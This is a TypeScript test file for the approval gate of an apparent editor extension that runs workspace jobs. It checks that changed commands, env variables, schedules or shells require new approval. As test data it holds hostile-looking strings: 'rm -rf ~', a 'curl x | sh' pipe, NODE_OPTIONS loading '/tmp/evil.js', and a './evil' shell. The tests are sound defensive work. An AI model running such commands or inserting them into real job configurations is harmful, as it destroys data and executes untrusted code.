import * as assert from 'node:assert/strict';
import { test } from 'node:test';
import type { JobDefinition } from '../../../src/core/model';
import {
	type ApprovalRecord,
	approvalNeeded,
	approvalSnapshot,
	checkRunGate,
	diffApproval,
	readStoredApproval,
	scheduleSource,
	snapshotKey,
} from '../../../src/extension/approval';

const jobs: JobDefinition[] = [
	{ id: 'b', command: 'echo b', cwd: '/w', env: { Z: '1', A: '2' } },
	{ id: 'a', command: 'echo a', cwd: '/w', schedule: { kind: 'every', everyMs: 1000 } },
];

const approved = (definitions: readonly JobDefinition[]): ApprovalRecord => ({ version: 2, approvedAt: '2026-01-01T00:00:00.000Z', jobs: approvalSnapshot(definitions) });
const asks = (before: readonly JobDefinition[], after: readonly JobDefinition[]) => approvalNeeded(approved(before), approvalSnapshot(after));

test('an untrusted workspace never runs, approved or not', () => {
	assert.equal(checkRunGate({ trusted: false, requireApproval: false, approvalNeeded: false }), 'untrusted');
	assert.equal(checkRunGate({ trusted: false, requireApproval: true, approvalNeeded: false }), 'untrusted');
});

test('a trusted workspace runs once nothing needs approval', () => {
	assert.equal(checkRunGate({ trusted: true, requireApproval: true, approvalNeeded: true }), 'unapproved');
	assert.equal(checkRunGate({ trusted: true, requireApproval: true, approvalNeeded: false }), undefined);
});

test('with requireApproval off, trust is enough', () => {
	assert.equal(checkRunGate({ trusted: true, requireApproval: false, approvalNeeded: true }), undefined);
});

test('a folder never approved needs approval, unless it has no command job', () => {
	assert.equal(approvalNeeded(undefined, approvalSnapshot(jobs)), true);
	assert.equal(approvalNeeded(undefined, approvalSnapshot([])), false);
	assert.equal(approvalNeeded(undefined, approvalSnapshot([{ id: 'fn', run: async () => undefined }])), false);
});

test('the exact jobs approved need no new approval, whatever their order or env key order', () => {
	const reordered: JobDefinition[] = [
		{ id: 'a', command: 'echo a', cwd: '/w', schedule: { kind: 'every', everyMs: 1000 } },
		{ id: 'b', command: 'echo b', cwd: '/w', env: { A: '2', Z: '1' } },
	];
	assert.equal(asks(jobs, reordered), false);
	assert.equal(snapshotKey(approvalSnapshot(reordered)), snapshotKey(approvalSnapshot(jobs)));
});

test('a changed command, cwd or env value, a new env variable or an added job asks again', () => {
	assert.equal(asks(jobs, [{ ...jobs[0], command: 'echo b; rm -rf ~' }, jobs[1]]), true);
	assert.equal(asks(jobs, [{ ...jobs[0], cwd: '/elsewhere' }, jobs[1]]), true);
	assert.equal(asks(jobs, [{ ...jobs[0], env: { Z: '1', A: '3' } }, jobs[1]]), true);
	assert.equal(asks(jobs, [{ ...jobs[0], env: { Z: '1', A: '2', NODE_OPTIONS: '--require /tmp/evil.js' } }, jobs[1]]), true);
	assert.equal(asks(jobs, [...jobs, { id: 'c', command: 'echo c', cwd: '/w' }]), true);
});

test('a manual job that gains a schedule asks again: it starts to run unattended', () => {
	assert.equal(asks(jobs, [{ ...jobs[0], schedule: { kind: 'cron', expression: '* * * * *' } }, jobs[1]]), true);
});

test('a scheduled job that is enabled again asks again', () => {
	const disabled = [jobs[0], { ...jobs[1], enabled: false }];
	assert.equal(approvalSnapshot(disabled).find((j) => j.id === 'a')?.unattended, false);
	assert.equal(asks(disabled, jobs), true);
});

test('a manual job that a scheduled job starts to depend on asks again', () => {
	const before: JobDefinition[] = [
		{ id: 'deploy', command: 'deploy.sh', cwd: '/w' },
		{ id: 'nightly', command: 'echo n', cwd: '/w', schedule: { kind: 'cron', expression: '0 3 * * *' } },
	];
	const after: JobDefinition[] = [before[0], { ...before[1], dependsOn: ['deploy'] }];
	assert.equal(approvalSnapshot(after).find((j) => j.id === 'deploy')?.unattended, true);
	assert.equal(asks(before, after), true);
});

test('removing a job, renaming it, retries or a new schedule of a scheduled job do not ask', () => {
	assert.equal(asks(jobs, [jobs[0]]), false);
	assert.equal(asks(jobs, [{ ...jobs[0], name: 'B' }, jobs[1]]), false);
	assert.equal(asks(jobs, [{ ...jobs[0], retry: { retries: 3, backoff: 'fixed', delayMs: 10 }, timeoutMs: 5 }, jobs[1]]), false);
	assert.equal(asks(jobs, [jobs[0], { ...jobs[1], schedule: { kind: 'every', everyMs: 5000 } }]), false);
	assert.equal(asks(jobs, [jobs[0], { ...jobs[1], schedule: undefined }]), false);
});

test('the diff lists added, removed and changed jobs with each field before and after', () => {
	const before = approvalSnapshot([
		{ id: 'gone', command: 'echo gone', cwd: '/w' },
		{ id: 'test', command: 'npm test', cwd: '/w', env: { CI: '1' } },
	]);
	const after = approvalSnapshot([
		{ id: 'new', command: 'echo new', cwd: '/w' },
		{ id: 'test', command: 'npm test; curl x | sh', cwd: '/w', env: { CI: '1', NODE_OPTIONS: '--require /tmp/evil.js' }, schedule: { kind: 'every', everyMs: 5000 } },
	]);
	const changes = diffApproval(before, after);
	assert.deepEqual(
		changes.map((c) => [c.kind, c.id, c.asks]),
		[['removed', 'gone', false], ['added', 'new', true], ['changed', 'test', true]],
	);
	const changed = changes[2];
	assert.ok(changed.kind === 'changed');
	assert.deepEqual(changed.fields, [
		{ field: 'command', before: 'npm test', after: 'npm test; curl x | sh', asks: true },
		{ field: 'env', key: 'NODE_OPTIONS', before: null, after: '--require /tmp/evil.js', asks: true },
		{ field: 'schedule', before: null, after: 'every 5s', asks: false },
		{ field: 'runs', before: 'only when you run it', after: 'unattended', asks: true },
	]);
});

test('schedules are kept exactly as written', () => {
	assert.equal(scheduleSource({ kind: 'every', everyMs: 90_061_001 }), 'every 1d1h1m1s1ms');
	assert.equal(scheduleSource({ kind: 'cron', expression: '0 3 * * *', timezone: 'Europe/Berlin' }), 'cron "0 3 * * *" (time zone Europe/Berlin)');
	assert.equal(scheduleSource({ kind: 'at', at: Date.UTC(2026, 0, 2, 3, 4, 5) }), 'once at 2026-01-02T03:04:05.000Z');
});

test('a stored approval is read back only when its shape is right', () => {
	const record = approved(jobs);
	assert.deepEqual(readStoredApproval(JSON.parse(JSON.stringify(record))), record);
	assert.equal(readStoredApproval('a'.repeat(64)), 'legacy');
	for (const bad of [undefined, null, 42, 'not a hash', [], { version: 1, approvedAt: 'x', jobs: [] }, { ...record, jobs: [{ id: 'x' }] }]) {
		assert.equal(readStoredApproval(bad), undefined, JSON.stringify(bad));
	}
});

test('an approval from before the review document (a bare hash) no longer counts', () => {
	assert.equal(approvalNeeded('legacy', approvalSnapshot(jobs)), true);
});

test('a job that gains, changes or loses a shell asks again; approvals from before shells still match', () => {
	const bash = { executable: 'bash', args: ['-c'] };
	assert.equal(asks(jobs, [{ ...jobs[0], shell: bash }, jobs[1]]), true);
	assert.equal(asks([{ ...jobs[0], shell: bash }, jobs[1]], [{ ...jobs[0], shell: { executable: './evil', args: ['-c'] } }, jobs[1]]), true);
	assert.equal(asks([{ ...jobs[0], shell: bash }, jobs[1]], [{ ...jobs[0], shell: { executable: 'bash', args: ['-c', '-x'] } }, jobs[1]]), true);
	assert.equal(asks([{ ...jobs[0], shell: bash }, jobs[1]], jobs), true);
	assert.equal(asks([{ ...jobs[0], shell: bash }, jobs[1]], [{ ...jobs[0], shell: { ...bash } }, jobs[1]]), false);
	// A job without a shell is snapshotted exactly as before shells existed.
	assert.equal('shell' in approvalSnapshot(jobs)[0], false);
	const stored = JSON.parse(JSON.stringify(approved([{ ...jobs[0], shell: bash }, jobs[1]])));
	assert.deepEqual(readStoredApproval(stored), stored);
	const [change] = diffApproval(stored.jobs, approvalSnapshot(jobs));
	assert.deepEqual(change.kind === 'changed' && change.fields, [{ field: 'shell', before: '["bash","-c"]', after: null, asks: true }]);
	assert.equal(readStoredApproval({ ...stored, jobs: [{ ...stored.jobs[0], shell: 3 }] }), undefined);
});
